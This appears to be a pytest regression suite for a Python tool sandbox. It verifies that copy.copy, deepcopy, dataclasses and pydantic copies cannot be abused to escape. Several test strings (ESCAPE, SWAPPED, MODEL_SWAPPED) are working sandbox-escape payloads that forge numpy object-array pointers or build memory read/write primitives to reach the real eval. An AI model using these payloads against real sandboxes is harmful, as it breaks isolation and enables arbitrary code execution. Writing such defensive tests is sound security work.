"""The copy protocol's special methods come from the class, never from an instance's ``__dict__``.

``copy.copy`` and ``copy.deepcopy`` (and ``dataclasses.asdict``/``replace`` and pydantic's deep
copies, which call them) look ``__reduce_ex__``, ``__reduce__`` and ``__deepcopy__`` up on the
object, where an entry of its ``__dict__`` wins over the method ``object`` defines. Tool code fills
the ``__dict__`` of its own instances through ``vars()``, and ``functools.update_wrapper`` copied it
into a ``functools.partial``'s. A ``__reduce_ex__`` there names any callable, and ``copy`` then
calls ``y.__setstate__(state)`` on whatever it returned: on a numpy array with a memoryview over
it, ``ndarray.__setstate__`` made it an object array at the same address, whose pointers the
memoryview wrote (an outside review's escape, ``ESCAPE``, returned ``os.getuid()`` through the
real ``eval``). A ``__deepcopy__`` there was handed the copy's memo.
"""

from __future__ import annotations

import pytest

from runtime import Runtime
from tests.attacks import assert_refused, attack

ESCAPE = """
import copy, dataclasses, functools
import numpy as np


class Box:
    pass


@dataclasses.dataclass
class Holder:
    box: object


def tool() -> int:
    holder = np.zeros(2, np.int64)
    view = memoryview(holder).cast("B")
    box = Box()
    state = (1, (2,), np.dtype("O"), False, [1, 2])
    vars(box)["__reduce_ex__"] = lambda protocol: (lambda: holder, (), state)
    COPY
    fields = (1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    fake = b"".join(field.to_bytes(8, "little") for field in fields)
    view[0:16] = b"".join(p.to_bytes(8, "little") for p in [id(fake) + 32, id(holder[1])])
    memory = holder[0]
    address = int.from_bytes(bytes(memory[id(len) + 24 : id(len) + 32]), "little")
    view[0:16] = b"".join(p.to_bytes(8, "little") for p in [id(fake) + 32, address])
    real = holder[1]
    return real.eval("__import__('os').getuid()", {"__builtins__": real})
"""
"""``holder`` becomes an object array under ``view`` once ``COPY`` has the copy call the box's
``__reduce_ex__``; succeeding, the tool returns the worker's uid (an int, JSON)."""

COPIES = {
    "copy": "copy.copy(box)",
    "deepcopy": "copy.deepcopy(box)",
    "dataclasses-asdict": "dataclasses.asdict(Holder(box))",
    "update-wrapper-onto-partial": "copy.copy(functools.update_wrapper(functools.partial(print), box))",
    "wraps-a-partial": "copy.copy(functools.wraps(box)(functools.partial(print)))",
}


@pytest.mark.parametrize("copies", COPIES.values(), ids=COPIES.keys())
def test_no_reducer_from_an_instance_dict_rebuilds_a_library_object(rt: Runtime, copies: str) -> None:
    pytest.importorskip("numpy")
    result = attack(rt, ESCAPE.replace("COPY", copies))
    assert_refused(rt, result, "tool_error")  # the array stays numeric: indexing its scalar fails


REDUCERS = """
import copy, dataclasses, functools, types


class Box:
    pass


def tool() -> list:
    called = []
    box = Box()
    vars(box)["__reduce_ex__"] = lambda protocol: called.append("reduce_ex") or (types.SimpleNamespace, ())
    vars(box)["__reduce__"] = lambda: called.append("reduce") or (types.SimpleNamespace, ())
    vars(box)["__deepcopy__"] = lambda memo: called.append(sorted(map(type, memo.values()), key=str)) or box
    copies = [copy.copy(box), copy.deepcopy(box), copy.copy(functools.update_wrapper(functools.partial(print), box))]
    return [called, [type(c).__name__ for c in copies]]
"""


def test_copy_calls_no_special_method_of_an_instance_dict(rt: Runtime) -> None:
    result = attack(rt, REDUCERS)
    assert result.success, result.error
    assert result.output == [[], ["Box", "Box", "partial"]]


ENUM_MEMO = """
import copy, enum


class Kind(enum.Enum):
    A = 1


def tool() -> list:
    seen = []
    vars(Kind.A)["__deepcopy__"] = lambda memo: seen.append(len(memo)) or Kind.A
    copy.deepcopy([Kind.A, {"a": [1]}])
    return seen
"""


GETSTATE = """
import copy, json


class Box:
    pass


def tool() -> str:
    box = Box()
    vars(box)["__getstate__"] = lambda: (None, {"__class__": json.JSONEncoder, "_private": 1})
    return type(copy.copy(box)).__name__
"""


def test_no_state_from_an_instance_dict_sets_the_copys_class(rt: Runtime) -> None:
    """A ``__getstate__`` from ``vars()`` made the copy a host class's instance with private attributes set."""
    result = attack(rt, GETSTATE)
    assert result.success, result.error
    assert result.output == "Box"


def test_no_deepcopy_memo_through_an_enum_members_dict(rt: Runtime) -> None:
    """A class deriving from one that defines ``__deepcopy__`` (Enum, pydantic) was left open."""
    result = attack(rt, ENUM_MEMO)
    assert result.success, result.error
    assert result.output == []


COPIES_AS_IN_CPYTHON = """
import collections, copy, dataclasses, enum
from pydantic import BaseModel


class Plain:
    def __init__(self, items):
        self.items = items


class Slotted:
    __slots__ = ("a",)

    def __init__(self, a):
        self.a = a


class Ordered(collections.OrderedDict):
    pass


class Failure(ValueError):
    pass


class Kind(enum.Enum):
    A = 1


class Model(BaseModel):
    tags: list[str] = []


@dataclasses.dataclass
class Row:
    name: str
    tags: list


def tool() -> list:
    plain = Plain([1, [2]])
    error = Failure("bad", 1)
    error.note = "n"
    model = Model(tags=["x"])
    shallow, deep = copy.copy(plain), copy.deepcopy(plain)
    return [
        shallow.items is plain.items, deep.items == plain.items and deep.items is not plain.items,
        copy.copy(Slotted(3)).a, copy.deepcopy(Slotted([4])).a,
        list(copy.copy(Ordered(a=1)).items()), type(copy.deepcopy(Ordered(b=2))).__name__,
        copy.copy(error).args, copy.deepcopy(error).note, copy.copy(Kind.A) is Kind.A, copy.deepcopy(Kind.A) is Kind.A,
        copy.deepcopy(model).tags, copy.copy(model) == model,
        dataclasses.asdict(Row("r", [[1]])), dataclasses.replace(Row("r", []), name="s").name,
    ]
"""


def test_copies_of_the_tools_objects_are_cpythons(rt: Runtime) -> None:
    result = attack(rt, COPIES_AS_IN_CPYTHON)
    assert result.success, result.error
    assert result.output == [
        True,
        True,
        3,
        [4],
        [["a", 1]],
        "Ordered",
        ["bad", 1],
        "n",
        True,
        True,
        ["x"],
        True,
        {"name": "r", "tags": [[1]]},
        "s",
    ]


SWAPPED = """
import copy, decimal
import numpy as np

SWAP = []


class Boom(Exception):
    def __new__(cls, *args):
        if SWAP:
            return SWAP[0]
        return super().__new__(cls, *args)


def tool() -> int:
    holder = np.arange(2) + decimal.Decimal(1)  # an object array
    data = read(id(holder) + 16)  # PyArrayObject.data
    address = read(id(len) + 24)  # len's m_self: the builtins module
    window(data, writable=True)[0] = address
    real = holder[0]
    return real.eval("__import__('os').getuid()", {"__builtins__": real})


def window(address, writable=False):
    def target():
        return None

    boom = Boom()
    interface = {"data": (address, not writable), "typestr": "<u8", "shape": (1,), "version": 3}
    vars(boom)["__array_interface__"] = interface
    SWAP.append(target)
    copy.copy(boom)  # Boom(*args) answers target, and the copy writes boom's __dict__ into it
    SWAP.clear()
    return np.asarray(target)


def read(address):
    return int(window(address)[0])
"""
"""A tool class's ``__new__`` answers another object when ``copy`` rebuilds its instance: the copy
wrote the instance's ``__dict__`` (an array interface over any address) into a function."""


def test_a_copy_writes_no_state_into_an_object_of_another_class(rt: Runtime) -> None:
    pytest.importorskip("numpy")
    result = attack(rt, SWAPPED)
    assert_refused(rt, result, "policy")
    message = result.error.message if result.error is not None else ""
    assert "__new__ returned a function" in message or "a copy is of its original's class" in message


RENAMED = """
import copy


class Boom(Exception):
    def peek(self):
        return None


def tool() -> str:
    try:
        raise Boom("x")
    except Boom as caught:
        boom = caught
    Boom.peek.__name__ = "__traceback__"
    return type(copy.copy(boom.peek)).__name__  # a method copies as getattr(its self, its name)
"""


def test_a_copied_method_reads_no_attribute_the_guards_refuse(rt: Runtime) -> None:
    result = attack(rt, RENAMED)
    assert_refused(rt, result, "policy")


def test_methods_and_iterators_still_copy(rt: Runtime) -> None:
    source = (
        "import copy\nclass C:\n    def m(self):\n        return 7\n"
        "def tool() -> list:\n    c = C()\n    it = iter([1, 2, 3])\n    next(it)\n"
        "    return [copy.copy(c.m)(), list(copy.copy(it)), list(copy.deepcopy(iter((4, 5))))]\n"
    )
    result = attack(rt, source)
    assert result.success, result.error
    assert result.output == [7, [2, 3], [4, 5]]


MODEL_SWAPPED = (
    SWAPPED.replace(
        "class Boom(Exception):",
        "from pydantic import BaseModel\n\n\nclass Boom(BaseModel):\n    a: int = 0\n",
    )
    .replace("return super().__new__(cls, *args)", "return super().__new__(cls)")
    .replace("copy.copy(boom)", "boom.model_copy()")
)
"""The same through pydantic: its ``__copy__`` calls ``cls.__new__(cls)`` and sets the ``__dict__`` of what it got."""


def test_pydantic_writes_no_dict_into_what_a_new_answered(rt: Runtime) -> None:
    pytest.importorskip("numpy")
    result = attack(rt, MODEL_SWAPPED)
    assert_refused(rt, result, "policy")
    assert result.error is not None and "__new__ returned a function" in result.error.message


NEW_KINDS = """
import functools
from pydantic import BaseModel

SWAP = []


def tool() -> list:
    out = []

    def target():
        return None

    for kind in (ByClassmethod, ByPartial):
        item = kind()
        SWAP.append(target)
        try:
            out.append(type(item.model_copy()).__name__)
        except Exception as error:
            out.append(type(error).__name__)
        SWAP.clear()
    return out


class ByClassmethod(BaseModel):
    a: int = 0

    @classmethod
    def __new__(klass, *args, **kwargs):
        return SWAP[0] if SWAP else super().__new__(klass)


def swapper(cls, *args, **kwargs):
    return SWAP[0] if SWAP else object.__new__(cls)


class ByPartial(BaseModel):
    a: int = 0
    __new__ = functools.partial(swapper)
"""


def test_every_kind_of_new_is_checked(rt: Runtime) -> None:
    """A classmethod or a ``functools.partial`` as ``__new__`` is called through its descriptor and checked too."""
    result = attack(rt, NEW_KINDS)
    assert result.success, result.error
    assert result.output == ["PolicyViolation", "PolicyViolation"]


def test_ordinary_news_still_work(rt: Runtime) -> None:
    source = """
import collections, enum
from typing import NamedTuple


def tool() -> list:
    return [Single() is Single(), Small(3), Upper("ab"), Kind(1).name, Kind["B"].value, Point(1, 2)._asdict(),
            Pair(3, 4).x, copy_of(Single())]


def copy_of(item):
    import copy
    return copy.copy(item) is item or type(copy.copy(item)).__name__


class Single:
    made = []

    def __new__(cls):
        if not cls.made:
            cls.made.append(super().__new__(cls))
        return cls.made[0]


class Small:
    def __new__(cls, n):
        return n * 2


class Upper(str):
    def __new__(cls, text):
        return super().__new__(cls, text.upper())


class Kind(enum.Enum):
    A = 1
    B = 2


class Point(NamedTuple):
    x: int
    y: int


Pair = collections.namedtuple("Pair", "x y")
"""
    result = attack(rt, source)
    assert result.success, result.error
    assert result.output == [True, 6, "AB", "A", 2, {"x": 1, "y": 2}, 3, True]
